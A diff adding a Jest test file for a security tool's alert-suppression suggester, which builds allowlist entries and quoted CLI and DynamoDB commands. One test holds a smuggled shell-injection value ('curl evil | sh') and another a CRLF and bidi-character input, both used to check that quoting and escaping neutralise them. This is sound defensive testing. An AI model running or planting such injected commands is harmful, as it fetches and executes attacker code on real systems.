@@ -1,0 +1,120 @@
+import { literalGlob, SUGGESTED_EXPIRY_DAYS, suggestSuppression } from '../../lib/alerts/suppression';
+import { compileEntry, entrySuppresses, globMatch, itemToEntry } from '../../lib/allowlist';
+import type { Alert, Detection } from '../../lib/model';
+import { containerAlert, detectionOf, VM_RULE, vmAlert, vmEvent } from './fixtures';
+
+const NOW = Date.parse('2026-11-20T15:00:00Z');
+
+function detectionFrom(alert: Alert): Detection {
+  return { rule: { ...VM_RULE, id: alert.ruleId }, severity: alert.severity, event: alert.event };
+}
+
+describe('suggestSuppression', () => {
+  it('suggests an entry that suppresses exactly this alert on this host', () => {
+    const alert = vmAlert();
+    const suggestion = suggestSuppression(alert, { nowMs: NOW });
+    expect(suggestion?.entry).toMatchObject({
+      host: 'wks-0142.corp.example.com',
+      rule: alert.ruleId,
+      match: { Image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\vb\\VBoxHeadless.exe' },
+      expiresAt: Math.floor(NOW / 1000) + SUGGESTED_EXPIRY_DAYS * 86_400,
+    });
+    const compiled = compileEntry(suggestion!.entry);
+    expect(entrySuppresses(compiled, detectionFrom(alert), NOW)).toBe(true);
+  });
+
+  it('does not suppress another image, another host or another rule', () => {
+    const entry = compileEntry(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
+    const otherImage = detectionOf(vmEvent({ Image: 'C:\\Tools\\VBoxHeadless.exe' }));
+    const otherHost = detectionOf({ ...vmEvent(), host: { hostname: 'wks-0999' } });
+    const otherRule = { ...detectionOf(), rule: { ...VM_RULE, id: 'another-rule' } };
+    expect(entrySuppresses(entry, otherImage, NOW)).toBe(false);
+    expect(entrySuppresses(entry, otherHost, NOW)).toBe(false);
+    expect(entrySuppresses(entry, otherRule, NOW)).toBe(false);
+  });
+
+  it('stops suppressing after 30 days', () => {
+    const entry = compileEntry(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
+    expect(entrySuppresses(entry, detectionOf(), NOW + 31 * 86_400_000)).toBe(false);
+  });
+
+  it('matches on ContainerImage when nothing ran as a process', () => {
+    const suggestion = suggestSuppression(containerAlert(), { nowMs: NOW });
+    expect(suggestion?.entry.match).toEqual({ ContainerImage: 'docker.io/library/alpine:3.20' });
+    expect(suggestion?.entry.host).toBe('prod-eks');
+  });
+
+  it('gives the put-item form whose item reads back as the same entry', () => {
+    const suggestion = suggestSuppression(vmAlert(), { nowMs: NOW, allowlistTable: 'vmsentry-allowlist' })!;
+    expect(suggestion.putItem).toMatch(/^aws dynamodb put-item --table-name 'vmsentry-allowlist' --item '\{/);
+    const itemJson = suggestion.putItem.slice(suggestion.putItem.indexOf("--item '") + 8, -1);
+    const item = JSON.parse(itemJson) as Record<string, Record<string, unknown>>;
+    const plain = Object.fromEntries(
+      Object.entries(item).map(([key, value]) => [
+        key,
+        value['S'] ?? (value['N'] ? Number(value['N']) : fromMap(value['M'])),
+      ]),
+    );
+    const read = itemToEntry(plain);
+    expect(read.ok && read.entry).toMatchObject({ rule: suggestion.entry.rule, match: suggestion.entry.match });
+  });
+
+  it('gives the CLI form with the real add flags, every value single-quoted', () => {
+    const { cli, json } = suggestSuppression(vmAlert(), { nowMs: NOW, allowlistTable: 'vmsentry-allowlist' })!;
+    expect(cli).toBe(
+      "vmsentry allowlist add --table 'vmsentry-allowlist' --host 'wks-0142.corp.example.com' " +
+        `--rule '${vmAlert().ruleId}' --match 'Image=C:\\Users\\alice\\AppData\\Local\\Temp\\vb\\VBoxHeadless.exe' ` +
+        `--reason 'Expected activity: replace with why (alert ${vmAlert().id})' --owner 'REPLACE_WITH_YOUR_NAME' --expires 30d`,
+    );
+    expect(JSON.parse(json)).toEqual(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
+  });
+
+  it('keeps a hostile image with quotes inside its shell quotes', () => {
+    const alert = vmAlert(vmEvent({ Image: "C:\\x'; curl evil | sh; echo '" }));
+    const { cli, putItem } = suggestSuppression(alert, { nowMs: NOW })!;
+    // Every single quote from the value is closed, escaped and reopened.
+    for (const command of [cli, putItem]) expect(command).toContain("'\\''");
+    expect(cli).toContain("--match 'Image=C:\\x'\\''; curl evil | sh; echo '\\'''");
+  });
+
+  it('does not offer an image with line breaks or bidi characters as a CLI argument, only as escaped JSON', () => {
+    const alert = vmAlert(vmEvent({ Image: 'C:\\x\r\nBcc: a@b\u202e.exe' }));
+    const { cli, json, putItem } = suggestSuppression(alert, { nowMs: NOW })!;
+    expect(cli).toContain('UNPRINTABLE-VALUE-USE-THE-JSON-FORM');
+    for (const command of [cli, json, putItem]) expect(command).not.toMatch(/[\r\n\u202e]/);
+    expect(json).toContain('\\r\\nBcc: a@b\\u202e.exe');
+  });
+
+  it('escapes glob characters so the entry matches the literal value only', () => {
+    const glob = literalGlob('C:\\odd*name?.exe');
+    expect(globMatch(glob, 'C:\\odd*name?.exe')).toBe(true);
+    expect(globMatch(glob, 'C:\\oddXXname1.exe')).toBe(false);
+  });
+
+  it('falls back to a prefix glob for an image longer than a glob may be, and says so', () => {
+    const image = `C:\\${'a\\'.repeat(200)}VBoxHeadless.exe`;
+    const suggestion = suggestSuppression(vmAlert(vmEvent({ Image: image })), { nowMs: NOW })!;
+    const glob = suggestion.entry.match?.['Image'] ?? '';
+    expect(glob.endsWith('*')).toBe(true);
+    expect(globMatch(glob, image)).toBe(true);
+    expect(suggestion.note).toMatch(/prefix/);
+  });
+
+  it('warns when no field names what ran', () => {
+    const alert = vmAlert(vmEvent({ Image: undefined as unknown as string }));
+    const event = { ...alert.event, fields: { User: 'x' } };
+    const suggestion = suggestSuppression({ ...alert, event }, { nowMs: NOW });
+    expect(suggestion?.entry.match).toBeUndefined();
+    expect(suggestion?.note).toMatch(/every alert of this rule/);
+  });
+
+  it('offers nothing when no host key is a valid allowlist host', () => {
+    const alert = { ...vmAlert(), host: 'bad host!', hostKeys: ['bad host!'] };
+    expect(suggestSuppression(alert, { nowMs: NOW })).toBeUndefined();
+  });
+});
+
+function fromMap(map: unknown): Record<string, unknown> | undefined {
+  if (!map || typeof map !== 'object') return undefined;
+  return Object.fromEntries(Object.entries(map).map(([k, v]) => [k, (v as { S: string }).S]));
+}
